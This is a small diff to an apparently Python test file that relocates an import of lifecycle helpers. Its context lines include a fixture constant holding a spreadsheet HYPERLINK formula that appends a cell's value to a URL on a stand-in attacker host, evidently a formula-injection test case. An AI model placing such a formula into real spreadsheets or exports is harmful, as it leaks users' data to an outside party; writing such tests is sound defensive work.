@@ -24,8 +24,8 @@ from pcq.wire import BasisData, CitationData, ParsedCompletion
 from shell import cli
 from shell.client import PcqClient
 from shell.stack import mint_key
-from tests import lifecycle_helpers as one
 from tests.conftest import make_settings
+from tests.core import lifecycle_helpers as one
 
 REQ = {"model": "lite", "messages": [{"role": "user", "content": "q"}]}
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
